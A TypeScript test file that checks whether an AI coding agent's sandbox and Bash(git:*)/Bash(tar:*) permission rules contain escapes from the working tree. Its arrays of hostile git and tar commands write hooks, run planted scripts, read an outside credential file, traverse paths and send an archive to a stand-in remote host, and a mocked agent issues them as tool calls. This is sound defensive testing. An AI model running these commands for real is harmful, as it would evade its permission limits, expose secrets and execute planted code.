// What git and tar can be told to do outside of the working tree: each attack works when a shell runs it. The sandbox bounds all of them
// under the rules Bash(git:*) and Bash(tar:*); without one, what names a file outside is refused.
import { execFileSync, spawnSync } from "node:child_process";
import { existsSync, readdirSync, readFileSync, writeFileSync } from "node:fs";
import { join } from "node:path";
import { describe, expect, it } from "vitest";
import { call, provider, toolResults } from "../cast.ts";
import { text } from "../messages-api.ts";
import { lacks } from "../needs.ts";
import { programFolder, quoted } from "../scratch.ts";
import { type Place, teamPlace } from "../team-kit.ts";

const noSandbox = await lacks("sandbox");
const marker = "only-a-person-reads-this";

/** Each attack starts a program, writes outside the tree, or prints a file from outside. OUTSIDE is a folder beside the home folder. */
const attacks = [
  "git merge-file OUTSIDE/profile a.txt evil.sh",
  "git mailinfo OUTSIDE/profile .git/hooks/post-checkout < mail",
  "git mailsplit -o.git/hooks -d4 mail",
  "printf 'protocol=https\\nhost=h\\n\\n' | git credential-store --file=OUTSIDE/passwords get",
  "git bugreport -o OUTSIDE/report",
  "git diff a.txt OUTSIDE/passwords",
  "git diff a.txt sub/../../UP/passwords",
  "git diff --no-index a.txt OUTSIDE/passwords",
  "git -C OUTSIDE grep --no-index only",
  "git apply --numstat OUTSIDE/names.patch",
  "git diff-tree --output=OUTSIDE/profile -p HEAD",
  "git shortlog --output=OUTSIDE/profile HEAD",
  "git blame -S OUTSIDE/passwords a.txt",
  "git ls-remote OUTSIDE/repository",
  "git fetch OUTSIDE/repository && git show FETCH_HEAD",
];

/** Uses of the program that such a rule allows as it is written: only the sandbox bounds them. */
const covered = [
  "git fetch-pack --upload-pack=./evil.sh .",
  "git send-pack --receive-pack=./evil.sh . HEAD",
  "git merge-index ./evil.sh a.txt",
  "git push ./evil.git HEAD:refs/heads/x",
  "git push evil.git HEAD:refs/heads/x",
  "git push --repo=./evil.git --all",
  "tar -cf nowhere.invalid:/x a.txt",
  "tar --file=nowhere.invalid:/x -c a.txt",
  "tar -cvzfOUTSIDE/packed.tgz a.txt",
];

/** A repository with files that an agent can write by itself, and files that it must not reach. */
function prepared(place: Place, outside: string) {
  const { repository } = place;
  const env = { ...place.env, GIT_CONFIG_NOSYSTEM: "1", GIT_CONFIG_GLOBAL: "/dev/null", GIT_EDITOR: "true" };
  const git = (cwd: string, ...args: string[]) =>
    execFileSync("git", ["-c", "user.name=t", "-c", "user.email=t@l", ...args], { cwd, env, encoding: "utf8", stdio: "pipe" }).trim();
  const put = (path: string, content: string, mode = 0o644) => place.write(`repo/${path}`, content, { mode });
  const evil = `#!/bin/sh\ntouch ${quoted(repository)}/canary\n`;
  put("a.txt", "one\n");
  put("sub/b.txt", "two\n");
  put("evil.sh", evil, 0o755);
  put("mail", "From a Mon Sep 17 00:00:00 2001\nFrom: A <a@l>\nSubject: hello\n\ntext\n");
  git(repository, "add", "a.txt");
  git(repository, "commit", "-qm", "first");
  const blob = git(repository, "rev-parse", "HEAD:a.txt");
  const stages = [`0 ${"0".repeat(40)}\ta.txt\n`, ...[1, 2, 3].map((stage) => `100644 ${blob} ${stage}\ta.txt\n`)].join("");
  git(repository, "init", "-q", "--bare", "evil.git");
  put("evil.git/hooks/post-receive", evil, 0o755);
  writeFileSync(join(outside, "profile"), "one\n");
  writeFileSync(join(outside, "passwords"), `https://me:${marker}@h\n`);
  writeFileSync(join(outside, "names.patch"), `--- a/${marker}\n+++ b/${marker}\n@@ -1 +1 @@\n-a\n+b\n`);
  git(outside, "init", "-q", "repository");
  git(join(outside, "repository"), "commit", "-q", "--allow-empty", "-m", marker);
  const written = () => [
    existsSync(join(repository, "canary")) ? ["canary"] : [],
    readdirSync(join(repository, ".git/hooks")).filter((name) => !name.endsWith(".sample")),
    readdirSync(outside),
    readFileSync(join(outside, "profile"), "utf8"),
  ];
  const head = git(join(outside, "repository"), "rev-parse", "HEAD");
  return {
    env,
    written,
    head,
    conflict: () => execFileSync("git", ["update-index", "--index-info"], { cwd: repository, env, input: stages }),
  };
}

/** In one pass, because the folder's random name may itself contain "UP". */
const named = (attack: string, outside: string) =>
  attack.replaceAll(/OUTSIDE|UP/g, (place) => (place === "UP" ? outside.slice(1) : outside));

it.each([...covered, ...attacks])("%s does harm", (attack) => {
  const place = teamPlace();
  const outside = programFolder();
  const { env, written, head, conflict } = prepared(place, outside);
  if (attack.includes("merge-index")) conflict();
  const before = JSON.stringify(written());
  const up = "../".repeat(place.repository.split("/").length - 2);
  const command = named(attack.replace("sub/../../", `sub/../${up}../`), outside);
  const ran = spawnSync("bash", ["-c", command], { cwd: place.repository, env, encoding: "utf8" });
  const shown = [marker, head, "nowhere.invalid"].some((each) => `${ran.stdout}${ran.stderr}`.includes(each));
  const harm = shown || JSON.stringify(written()) !== before;
  expect(harm, JSON.stringify({ command, head, status: ran.status, stdout: ran.stdout, stderr: ran.stderr })).toBe(true);
});

describe.each([
  { state: "in the sandbox", enabled: true, skipped: noSandbox },
  { state: "without a sandbox", enabled: false, skipped: false },
])("$state", ({ enabled, skipped }) => {
  it.skipIf(skipped)("a session with Bash(git:*) keeps them from outside, and does git's everyday work", async () => {
    const place = teamPlace();
    const outside = programFolder();
    const { written, conflict } = prepared(place, outside);
    conflict();
    place.write("config/settings.json", JSON.stringify({ sandbox: { enabled } }));
    const kept = () => (enabled ? written().slice(1) : written()); // a program of the tree may run in the sandbox
    const before = kept();
    const up = "../".repeat(place.repository.split("/").length - 2);
    const commands = [...(enabled ? covered : []), ...attacks].map((attack) =>
      named(attack.replace("sub/../../", `sub/../${up}../`), outside),
    );
    const everyday = ["git status --short evil.sh", "git log -1 --format=%s", "git fetch .", "tar -cf a.tar sub && tar -tf a.tar"];
    const calls = [...commands, ...everyday].map((command) => call("Bash", { command }));
    const api = await provider({ tool: [calls, text("Done.")] });
    const rules = ["--allow", "Bash(git:*)", "--allow", "Bash(tar:*)"];
    const program = place.piped(["--print", ...rules, "Do it."], { env: api.env, input: "" });
    await program.ended;
    const results = toolResults(api.requests("tool")[1]);
    // What runs in the sandbox may fail there: it shows nothing of outside.
    const passed = commands.filter((_, at) => (enabled ? results[at]?.includes(marker) : !results[at]?.startsWith("Permission denied: ")));
    expect({ passed, everyday: results.slice(commands.length), written: kept() }).toEqual({
      passed: [],
      everyday: ["?? evil.sh", "first", expect.not.stringContaining("Permission"), "sub/\nsub/b.txt"],
      written: before,
    });
  });
});
